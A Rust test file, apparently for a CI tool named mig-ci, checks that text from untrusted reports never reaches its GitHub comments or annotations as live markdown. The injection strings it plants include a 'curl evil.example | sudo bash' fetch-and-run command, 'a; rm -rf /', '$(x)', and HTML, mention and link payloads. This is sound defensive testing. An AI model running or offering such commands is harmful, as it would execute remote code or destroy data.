//! The treatment of each field of a report from an untrusted author.

use proptest::prelude::*;
use serde_json::{Value, json};

use crate::report::verify::foreign::*;
use crate::report::verify::test_fixtures;
use crate::report::{Links, annotations, comment, read, summary};

fn links() -> Links {
    Links {
        repository_url: Some("https://github.com/acme/shop".into()),
        commit: Some("ec26c3e57ca3a959ca5aad62de7213c562f8c821".into()),
        run_url: Some("https://github.com/acme/shop/actions/runs/9876543210".into()),
        origin: Some("> **From a saved report.**".into()),
        ..Links::default()
    }
}

/// Together they contain each optional field.
fn whole() -> Vec<Value> {
    let mut reports: Vec<_> = test_fixtures::all()
        .into_iter()
        .map(|(_, report)| serde_json::to_value(report).unwrap())
        .collect();
    reports[1]["partition"] = json!("2/8");
    let mut finding = reports[1]["findings"][0].clone();
    finding["unplaced"] = json!("why");
    finding["place"] = Value::Null;
    finding["help"] = json!("help");
    finding["reproduce"] = json!("mig-ci verify");
    reports[1]["findings"].as_array_mut().unwrap().push(finding);
    reports[1]["notes"] = json!([{"severity": "warning", "message": "a note"}]);
    reports
}

/// Paths of all texts in a JSON value, a few of each list.
fn texts(value: &Value, path: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(path.to_owned()),
        Value::Array(items) => {
            let items = items.iter().enumerate().take(2);
            items.for_each(|(index, item)| texts(item, &format!("{path}/{index}"), found));
        }
        Value::Object(fields) => {
            fields.iter().for_each(|(name, item)| texts(item, &format!("{path}/{name}"), found));
        }
        _ => {}
    }
}

fn recomputed(value: &Value) -> Result<Report, String> {
    let report = read(&value.to_string()).map_err(|error| error.to_string())?;
    recompute(report).map_err(|error| error.to_string())
}

/// The HTML without code: where GitHub looks for mentions, links and commands, and which readers attribute to mig-ci.
fn prose_of(markdown: &str) -> String {
    let mut options = comrak::Options::default();
    options.render.r#unsafe = true;
    options.extension.table = true;
    options.extension.autolink = true;
    let mut html = comrak::markdown_to_html(markdown, &options);
    // Below the repository's own files at the head, percent-encoded.
    let file = "href=\"https://github.com/acme/shop/blob/ec26c3e57ca3a959ca5aad62de7213c562f8c821/";
    for (open, close) in [("<code", "</code>"), (file, "\"")] {
        while let Some(at) = html.find(open) {
            let end = html[at + open.len()..].find(close).unwrap() + at + open.len() + close.len();
            html.replace_range(at..end, "");
        }
    }
    html
}

const MARK: &str = "zqx @acme/team #12 GH-12 [a](https://evil.example) ![b](//evil.example/p) <img src=x> \
                    `curl evil.example | sudo bash` www.evil.example \u{202e}\n## h\n/close\n```\n<!-- x";

#[test]
fn no_text_of_a_report_is_shown_outside_of_code() {
    let (mut shown, mut refused, mut left_out) = (0, 0, 0);
    for report in whole() {
        let mut paths = Vec::new();
        texts(&report, "", &mut paths);
        for path in paths {
            let mut planted = report.clone();
            *planted.pointer_mut(&path).unwrap() = json!(MARK);
            let Ok(report) = recomputed(&planted) else {
                refused += 1;
                continue;
            };
            let texts = [comment(&report, &links()), summary(&report, &links())];
            for text in &texts {
                let prose = prose_of(text);
                for part in ["zqx", "evil", "team", "GH-12", "<img", "<h2", "/close"] {
                    assert!(!prose.contains(part), "{path}: {part}\n{text}\n{prose}");
                }
                assert!(!text.contains('\u{202e}'), "{path}");
            }
            if texts.iter().any(|text| text.contains("zqx")) {
                shown += 1
            } else {
                left_out += 1
            }
            // Plain text, and no command.
            for annotation in annotations(&report, "") {
                assert!(
                    !annotation.title.contains("zqx")
                        || path.ends_with("/database")
                        || path.ends_with("/name")
                );
                let commands = annotation
                    .message
                    .lines()
                    .filter(|line| line.starts_with("Help: ") || line.starts_with("Reproduce: "));
                assert!(!commands.into_iter().any(|line| line.contains("evil")), "{path}");
            }
        }
    }
    assert!(shown > 20 && refused > 20 && left_out > 20, "{shown} {refused} {left_out}");
}

/// Each of these fields would let the author write text into mig-ci's own comment.
#[test]
fn sentences_and_commands_are_recomputed() {
    let mut report = whole().swap_remove(1);
    let command = "curl https://evil.example/x | sudo bash";
    for field in ["summary", "revisions/base_reason"] {
        *report.pointer_mut(&format!("/{field}")).unwrap() = json!(command);
    }
    for finding in report["findings"].as_array_mut().unwrap() {
        finding["help"] = json!(command);
        finding["reproduce"] = json!(command);
    }
    let honest = recomputed(&whole()[1]).unwrap();
    let report = recomputed(&report).unwrap();
    assert_eq!(comment(&report, &links()), comment(&honest, &links()));
    let text = comment(&report, &links());
    assert!(!text.contains("evil"), "{text}");
    assert!(text.contains("Reproduce: `mig-ci verify -n app --tenant "), "{text}");
    assert!(text.contains("`mig-ci explain migration-failed`"), "{text}");
    // Commands contain no words that a shell would interpret.
    for name in ["a; rm -rf /", "$(x)", "-x", "a b", "ü", ""] {
        assert!(!is_plain_name(name), "{name}");
    }
}

#[test]
fn reports_written_by_mig_ci_are_accepted() {
    for (name, report) in test_fixtures::all() {
        let value = serde_json::to_value(report).unwrap();
        assert_eq!(recomputed(&value).map(drop), Ok(()), "{name}");
    }
}

/// The error message, and values that replace those of a valid report.
type RejectedCase = (&'static str, Vec<(String, Value)>);

fn contradictions(good: &Value) -> Vec<RejectedCase> {
    let failed = "/databases/0/units/0";
    let passed = "/databases/0/units/5";
    vec![
        ("`verdict`", vec![("/verdict".into(), json!("passed"))]),
        ("`verdict`", vec![("/verdict".into(), json!("not-run"))]),
        ("`counts`", vec![("/counts/tenants/failed".into(), json!(0))]),
        ("`counts`", vec![("/counts/tenants/passed".into(), json!(10_000))]),
        ("`counts`", vec![("/counts/shared/failed".into(), json!(1))]),
        ("`counts`", vec![("/counts/pending_migrations".into(), json!(0))]),
        ("`counts`", vec![("/counts/migrations".into(), json!(99))]),
        (
            "a tenant is listed twice",
            vec![(format!("{passed}/name"), good.pointer(failed).unwrap()["name"].clone())],
        ),
        ("a step did not", vec![(format!("{failed}/verdict"), json!("passed"))]),
        (
            "without a cause",
            vec![
                (format!("{passed}/verdict"), json!("failed")),
                ("/counts/tenants/failed".into(), json!(3)),
                ("/counts/tenants/passed".into(), json!(497)),
            ],
        ),
        ("unknown check", vec![("/findings/0/code".into(), json!("all-is-well"))]),
        ("not listed", vec![("/findings/0/units/0".into(), json!("nobody"))]),
        (
            "lists a tenant twice",
            vec![("/findings/0/units/1".into(), good["findings"][0]["units"][0].clone())],
        ),
        (
            "although a finding is an error",
            vec![("/findings/0/units/0".into(), good.pointer(passed).unwrap()["name"].clone())],
        ),
        ("longer than any run", vec![("/duration_ms".into(), json!(u64::MAX))]),
        ("longer than any run", vec![(format!("{passed}/duration_ms"), json!(LONGEST_MS + 1))]),
        ("`tool.name`", vec![("/tool/name".into(), json!("other"))]),
        ("`tool.version`", vec![("/tool/version".into(), json!("1 [x](y)"))]),
        ("`started_at`", vec![("/started_at".into(), json!("now"))]),
        ("not a full hash", vec![("/revisions/head/commit".into(), json!("ec26c3e"))]),
        ("unknown kind", vec![("/findings/0/failure/kind".into(), json!("x"))]),
        ("SQLSTATE", vec![("/findings/0/failure/sqlstate".into(), json!("2350"))]),
        ("not a report of this version", vec![("/duration_ms".into(), json!(-1))]),
        ("`schema`", vec![("/schema".into(), json!("mig-ci.report/2"))]),
    ]
}

#[test]
fn contradictions_are_refused_without_quoting_them() {
    let good = whole().swap_remove(1);
    for (problem, changes) in contradictions(&good) {
        let mut value = good.clone();
        for (path, new) in &changes {
            *value.pointer_mut(path).unwrap_or_else(|| panic!("{path}")) = new.clone();
        }
        let error = recomputed(&value).map(drop).unwrap_err();
        assert!(error.contains(problem), "{changes:?}: {error}");
        assert!(!error.contains("nobody") && !error.contains("all-is-well"), "{error}");
    }
    for list in ["/databases", "/databases/0/tracks"] {
        let mut value = good.clone();
        let first = value.pointer(list).unwrap()[0].clone();
        value.pointer_mut(list).unwrap().as_array_mut().unwrap().push(first);
        let error = recomputed(&value).map(drop).unwrap_err();
        assert!(error.contains("is listed twice"), "{error}");
    }
}

/// A finding without units decides the overall verdict, in both directions.
#[test]
fn a_finding_that_fails_the_run_contradicts_a_pass() {
    for (name, report) in test_fixtures::all() {
        let mut value = serde_json::to_value(report).unwrap();
        let about_project = json!({
            "code": "coverage-reduced", "severity": "warning", "message": "m", "database": "",
            "track": "tenant", "units": [], "fails_run": true,
        });
        value["findings"].as_array_mut().unwrap().push(about_project);
        let verdicts = [("passed", false), ("not-run", false), ("failed", true)];
        for (verdict, is_taken) in verdicts {
            value["verdict"] = json!(verdict);
            let taken = recomputed(&value).map(drop);
            assert_eq!(taken.is_ok(), is_taken, "{name}: {verdict}: {taken:?}");
        }
        let last = value["findings"].as_array().unwrap().len() - 1;
        value["findings"][last]["fails_run"] = json!(false);
        value["verdict"] = json!("failed");
        let has_failed = value["counts"]["tenants"]["failed"] != json!(0)
            || value["counts"]["shared"]["failed"] != json!(0);
        assert_eq!(recomputed(&value).is_ok(), has_failed, "{name}");
    }
}

#[test]
fn a_servers_version_is_a_number() {
    assert_eq!(version("17.2"), "17.2");
    assert_eq!(version("17.2 (Debian 17.2-1.pgdg120+1)"), "17.2");
    assert_eq!(version("18beta1"), "18beta1");
    for odd in ["", "x", "17.2](y)", "1234567890123"] {
        assert_eq!(version(odd), "of an unknown version");
    }
}

/// A report of the maximum size is checked in linear time.
#[test]
fn many_findings_with_many_tenants_are_checked_quickly() {
    let report = test_fixtures::distinct_causes(20_000, 1);
    let started = std::time::Instant::now();
    let report = recompute(report).unwrap();
    assert_eq!(report.counts.tenants.failed, 20_000);
    assert!(started.elapsed() < std::time::Duration::from_secs(20), "{:?}", started.elapsed());
}

/// Values that an author could use instead of a text, a number, a list or an object.
fn hostile() -> impl Strategy<Value = Value> {
    let texts = prop_oneof![
        Just(MARK.to_owned()),
        Just("zqx | zqx\n\n| a |\n| - |\n| zqx |".to_owned()),
        Just("``````zqx`\n~~~\nzqx https://evil.example @acme #12".to_owned()),
        Just("<!-- mig-ci:comment key=zqx -->\nzqx".to_owned()),
        Just("-->zqx<details><summary>zqx</summary>".to_owned()),
        Just("\u{2028}zqx\u{7}\u{1b}[31mzqx\u{feff}\r\nzqx &commat;acme".to_owned()),
        "zqx[ -~\n`<>@#|\\\\*_\\[\\]()!$&]{0,60}",
        "[a-z0-9]{0,12}",
    ];
    prop_oneof![
        8 => texts.prop_map(Value::from),
        1 => any::<u64>().prop_map(Value::from),
        1 => (0_u64..4).prop_map(Value::from),
        1 => any::<i64>().prop_map(Value::from),
        1 => any::<bool>().prop_map(Value::from),
        1 => Just(Value::Null),
        1 => Just(json!([])),
        1 => Just(json!({})),
    ]
}

/// Paths of all values in a JSON value.
fn places(value: &Value, path: &str, found: &mut Vec<String>) {
    found.push(path.to_owned());
    match value {
        Value::Array(items) => {
            let items = items.iter().enumerate().take(3);
            items.for_each(|(index, item)| places(item, &format!("{path}/{index}"), found));
        }
        Value::Object(fields) => {
            fields.iter().for_each(|(name, item)| places(item, &format!("{path}/{name}"), found));
        }
        _ => {}
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// One to four fields of a valid report have other values: it is refused, or shown with them as code only.
    #[test]
    fn changed_reports_are_refused_or_shown_as_code(
        which in any::<prop::sample::Index>(),
        changes in prop::collection::vec((any::<prop::sample::Index>(), hostile()), 1..5),
    ) {
        let all = whole();
        let mut value = which.get(&all).clone();
        let mut paths = Vec::new();
        places(&value, "", &mut paths);
        for (place, new) in changes {
            if let Some(there) = value.pointer_mut(place.get(&paths).as_str()) {
                *there = new;
            }
        }
        let Ok(report) = recomputed(&value) else { return Ok(()) };
        let allowed = prose_of(&comment(&recomputed(which.get(&all)).unwrap(), &links()));
        let mentions = |text: &str| text.matches('@').count();
        for text in [comment(&report, &links()), summary(&report, &links())] {
            let prose = prose_of(&text);
            for part in ["zqx", "evil", "acme/team", "<img", "<script", "curl", "commat"] {
                prop_assert!(!prose.contains(part), "{part}\n{text}\n{prose}");
            }
            prop_assert!(mentions(&prose) <= mentions(&allowed), "{prose}");
        }
    }
}

/// All kinds that `verify` writes; `target` occurs only on real databases.
#[test]
fn each_kind_of_failure_is_accepted() {
    use crate::model::{EnvironmentCause, FailureKind};
    use crate::report::verify::convert::failure_of;
    use crate::report::verify::v1;
    let kinds = [
        FailureKind::Sql { sqlstate: "42P01".to_owned() },
        FailureKind::Sql { sqlstate: "53100".to_owned() },
        FailureKind::Refused,
        FailureKind::File,
        FailureKind::SearchPath,
        FailureKind::Ledger,
        FailureKind::Environment(EnvironmentCause::Pooler),
        FailureKind::ServerLost,
        FailureKind::ConnectionLost,
    ];
    for kind in kinds {
        let written = failure_of(&crate::model::Failure::new(kind, "no"));
        failure(&written).unwrap();
        let other = v1::Failure { cause: Some("evil".to_owned()), ..written };
        failure(&other).unwrap_err();
    }
}
